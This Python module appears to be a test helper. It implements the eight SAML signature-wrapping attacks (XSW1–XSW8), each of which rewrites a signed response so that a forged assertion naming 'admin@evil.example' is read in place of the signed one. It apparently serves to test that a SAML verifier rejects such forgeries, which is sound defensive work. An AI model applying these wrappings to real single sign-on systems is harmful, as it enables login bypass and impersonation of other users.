"""Signature-wrapping attacks on a signed SAML response, the eight variants of "On Breaking SAML: Be Whoever You
Want to Be" (Somorovsky et al., USENIX Security 2012), applied to the tree of a response from tests/saml_idp.py.
Each evil assertion names `EVIL_NAME`; XSW1-2 attack a signed response, XSW3-8 a signed assertion."""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

P = "{urn:oasis:names:tc:SAML:2.0:protocol}"
A = "{urn:oasis:names:tc:SAML:2.0:assertion}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"
EVIL_NAME = "admin@evil.example"


def tree(xml: str | bytes) -> etree._Element:
    return etree.fromstring(xml.encode() if isinstance(xml, str) else xml)


def wrapped(xml: str, name: str) -> bytes:
    """`xml` with the attack `name` (XSW1..XSW8) applied."""
    root = tree(xml)
    WRAPPINGS[name][0](root)
    return bytes(etree.tostring(root))


def _evil(assertion: etree._Element, new_id: str = "id-evil") -> etree._Element:
    evil = copy.deepcopy(assertion)
    evil.set("ID", new_id)
    for signature in evil.findall(f"{DS}Signature"):
        evil.remove(signature)
    name = evil.find(f"{A}Subject/{A}NameID")
    assert name is not None
    name.text = EVIL_NAME
    return evil


def _without_signature(element: etree._Element) -> etree._Element:
    clone = copy.deepcopy(element)
    for signature in clone.findall(f"{DS}Signature"):
        clone.remove(signature)
    return clone


def parts(root: etree._Element) -> tuple[etree._Element, etree._Element | None, etree._Element | None]:
    assertion = root.find(f"{A}Assertion")
    assert assertion is not None
    return assertion, root.find(f"{DS}Signature"), assertion.find(f"{DS}Signature")


def xsw1(root: etree._Element) -> None:
    """The response's signature keeps the original response (copied into the Signature); the root is evil."""
    assertion, signature, _ = parts(root)
    assert signature is not None
    original = _without_signature(root)
    signature.append(original)
    root.set("ID", "id-evil-response")
    root.replace(assertion, _evil(assertion))


def xsw2(root: etree._Element) -> None:
    """As XSW1, the original response copied next to (before) the signature instead of inside it."""
    assertion, signature, _ = parts(root)
    assert signature is not None
    original = _without_signature(root)
    signature.addprevious(original)
    root.set("ID", "id-evil-response")
    root.replace(assertion, _evil(assertion))


def xsw3(root: etree._Element) -> None:
    """An evil assertion placed before the signed one (processed first by a naive reader)."""
    assertion, _, _ = parts(root)
    assertion.addprevious(_evil(assertion))


def xsw4(root: etree._Element) -> None:
    """The signed assertion moved inside an evil one."""
    assertion, _, _ = parts(root)
    evil = _evil(assertion)
    root.replace(assertion, evil)
    evil.append(assertion)


def xsw5(root: etree._Element) -> None:
    """The signed assertion's content made evil (its signature kept), an unsigned copy of the original appended."""
    assertion, _, signature = parts(root)
    assert signature is not None
    original = _without_signature(assertion)
    name = assertion.find(f"{A}Subject/{A}NameID")
    assert name is not None
    name.text = EVIL_NAME
    assertion.set("ID", "id-evil")
    root.append(original)


def xsw6(root: etree._Element) -> None:
    """As XSW5, the original copied into the evil assertion's Signature."""
    assertion, _, signature = parts(root)
    assert signature is not None
    original = _without_signature(assertion)
    name = assertion.find(f"{A}Subject/{A}NameID")
    assert name is not None
    name.text = EVIL_NAME
    assertion.set("ID", "id-evil")
    signature.append(original)


def xsw7(root: etree._Element) -> None:
    """The signed assertion moved into an Extensions element; an evil unsigned one takes its place."""
    assertion, _, _ = parts(root)
    extensions = etree.Element(f"{P}Extensions")
    root.replace(assertion, _evil(assertion))
    extensions.append(assertion)
    status = root.find(f"{P}Status")
    assert status is not None
    status.addprevious(extensions)


def xsw8(root: etree._Element) -> None:
    """The evil assertion carries the signature, with the original (unsigned copy) in an Object inside it."""
    assertion, _, signature = parts(root)
    assert signature is not None
    original = _without_signature(assertion)
    evil = _evil(assertion)
    evil_signature = copy.deepcopy(signature)
    holder = etree.SubElement(evil_signature, f"{DS}Object")
    holder.append(original)
    issuer = evil.find(f"{A}Issuer")
    assert issuer is not None
    issuer.addnext(evil_signature)
    root.replace(assertion, evil)


WRAPPINGS: dict[str, tuple[Callable[[etree._Element], None], bool]] = {
    # name: (attack, signed response (XSW1-2) or signed assertion only (XSW3-8))
    "XSW1": (xsw1, True), "XSW2": (xsw2, True), "XSW3": (xsw3, False), "XSW4": (xsw4, False),
    "XSW5": (xsw5, False), "XSW6": (xsw6, False), "XSW7": (xsw7, False), "XSW8": (xsw8, False),
}
